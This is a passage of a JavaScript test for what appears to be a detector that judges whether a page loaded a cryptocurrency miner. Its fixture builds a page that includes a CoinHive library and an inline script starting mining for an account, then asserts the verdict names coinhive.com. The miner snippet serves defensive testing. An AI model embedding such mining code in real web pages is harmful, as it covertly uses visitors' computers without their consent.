  const start = `var m = new CoinHive.Anonymous("${account}"); m.start()`
  const { response: _, ...refused } = request('req-2', library, 'script', { status: 'lost', reason: 'not answered' })
  const { conclusion } = await judge.judge(
    captureOf(
      manifestOf({
        artifacts: {
          frame: [frame1],
          request: [
            await documentOf(`<script src="${library}"></script><script>${start}</script>`),
            { ...refused, failure: { reason: 'net::ERR_NAME_NOT_RESOLVED' } },
          ],
          script: [await script('script-1', page, 'inline', start)],
        },
      }),
    ),
  )
  assert.deepEqual([conclusion.status, conclusion.mining.placement, conclusion.chain.at(-1)?.url], ['loaded', 'third-party', library])
  assert.match(conclusion.sentence, /from coinhive\.com/)
})
